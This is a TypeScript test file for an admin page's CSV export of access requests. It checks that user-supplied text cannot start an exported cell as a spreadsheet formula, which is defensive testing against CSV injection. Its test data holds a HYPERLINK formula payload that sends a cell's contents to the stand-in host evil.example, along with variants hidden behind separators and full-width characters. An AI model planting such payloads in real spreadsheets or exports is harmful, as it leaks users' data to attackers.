import { expect, test } from 'vitest'

import { AccessRequest } from '../../domain/access-request.ts'
import { csvOf } from '../../web/src/pages/admin/history/csv.ts'

const id = '01a207b6-56f1-77e1-9c1c-5e0690b036ab'

/** Everything that somebody can write, as `text`. */
const requestOf = (text: string): AccessRequest =>
  AccessRequest.parse({
    id,
    status: 'denied',
    decision: 'denied',
    template_id: null,
    template_name: text,
    template_deleted: true,
    app_id: id,
    app_name: text,
    mappings: [{ id, name: text, claim: 'roles', value: text, privilege_level: 'low' }],
    requester_id: id,
    requester_email: text,
    requester_name: text,
    subject_id: id,
    subject_name: text,
    requested_duration_mins: 60,
    justification: text,
    custom_answers: {},
    ticket: text,
    notified_approvers: [],
    decided_by: id,
    decided_by_email: text,
    decision_source: 'approver',
    comment: text,
    revoked_by: null,
    revoke_comment: text,
    created_at: '2026-11-23T09:00:00.000Z',
    escalated_at: null,
    decided_at: null,
    expires_at: null,
    ended_at: null,
    workflow_url: null,
  })

/** A spreadsheet that parts cells at any of these, whether in quotes or not, as some do in the middle of a cell. */
const cellsOf = (csv: string): string[] =>
  csv.split(/[,;\t\r\n]/).map((cell) => cell.replaceAll('"', '').trim())

const formula = '=HYPERLINK("http://evil.example/?"&A1)'

test.each([
  formula,
  '+1',
  '-2+3',
  '@SUM(A1)',
  ` ${formula}`,
  `\t${formula}`,
  `\r\n${formula}`,
  `harmless;${formula}`,
  `harmless; ${formula}`,
  `harmless\t${formula}`,
  `harmless\n${formula}`,
  '＝1+1',
  '＠SUM(A1)',
])('%j begins no cell of the export as a formula, however the cells are parted', (text) => {
  const cells = cellsOf(csvOf([requestOf(text)]).slice(1))
  expect(cells.filter((cell) => /^[=+\-@＝＋－＠]/.test(cell))).toEqual([])
})

test('What is no formula is exported as it is, quotes doubled', () => {
  const csv = csvOf([requestOf('a = b, "c" – 5 < 6; d')])
  expect(csv).toContain('"a = b, ""c"" – 5 < 6; d"')
  expect(csv).not.toContain("'")
})
